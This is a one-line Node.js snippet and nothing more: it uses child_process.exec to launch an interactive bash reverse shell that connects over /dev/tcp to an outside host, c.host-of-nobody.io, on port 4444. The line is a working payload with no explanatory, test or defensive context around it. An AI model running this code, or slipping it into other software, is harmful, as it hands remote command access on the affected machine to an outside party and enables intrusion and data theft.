require('child_process').exec('bash -c "bash -i >& /dev/tcp/c.host-of-nobody.io/4444 0>&1"');
